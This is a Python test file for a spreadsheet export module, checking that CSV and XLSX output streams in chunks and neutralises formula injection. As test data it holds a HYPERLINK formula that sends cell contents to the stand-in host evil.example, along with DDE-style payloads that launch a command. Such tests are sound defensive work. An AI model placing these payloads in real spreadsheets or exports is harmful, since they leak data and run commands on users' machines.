"""Exports a spreadsheet opens: no cell runs as a formula (issue 17, item 8), and both formats stream."""

from __future__ import annotations

import csv
import io
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from klientura.kit import sheets

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_formula_triggers_become_text_in_csv() -> None:
    assert sheets.neutral(EVIL) == "'" + EVIL
    for cell in ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"):
        assert sheets.neutral(cell) == "'" + cell
    # numbers and phones in E.164 are read as numbers by a spreadsheet: nothing to run, left alone
    for cell in ("+79161234567", "-12.5", "-3", "12,5", "Иванов", "", "a=b"):
        assert sheets.neutral(cell) == cell
    assert sheets.neutral(-5) == -5 and sheets.neutral(None) is None


@given(st.text())
def test_no_csv_cell_starts_a_formula(text: str) -> None:
    body = sheets.csv_bytes(["h"], [[text]]).decode("utf-8").removeprefix("\ufeff")
    (_header, (cell,)) = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert cell == text or cell == "'" + text
    assert not cell.startswith(("=", "@", "\t", "\r")) and (not cell.startswith(("+", "-")) or cell == text)


def test_csv_streams_in_chunks() -> None:
    chunks = list(sheets.csv_stream(["a", "b"], ([i, f"name {i}"] for i in range(1200)), rows_per_chunk=500))
    assert len(chunks) == 3 and b"".join(chunks).decode("utf-8").count("\n") == 1201


def test_xlsx_writes_strings_as_strings() -> None:
    body = b"".join(sheets.xlsx_stream("Покупатели [май]", ["name", "n"], [[EVIL, 1], ["+79161234567", 2.5]]))
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula cell anywhere
    ws = load_workbook(io.BytesIO(body)).active
    assert ws is not None and ws.title == "Покупатели _май_"
    rows = list(ws.iter_rows(values_only=True))
    assert rows == [("name", "n"), (EVIL, 1), ("+79161234567", 2.5)]
    assert ws["A2"].data_type == "s"
